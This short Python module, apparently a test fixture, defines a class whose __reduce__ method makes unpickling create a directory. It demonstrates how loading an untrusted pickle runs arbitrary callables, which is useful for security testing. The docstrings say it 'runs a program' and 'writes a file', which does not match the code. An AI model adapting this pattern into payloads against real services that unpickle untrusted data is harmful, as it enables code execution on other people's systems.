"""A pickle that runs a program."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any


class Evil:
    """Unpickled without care, it writes a file."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, (str(self.target),))
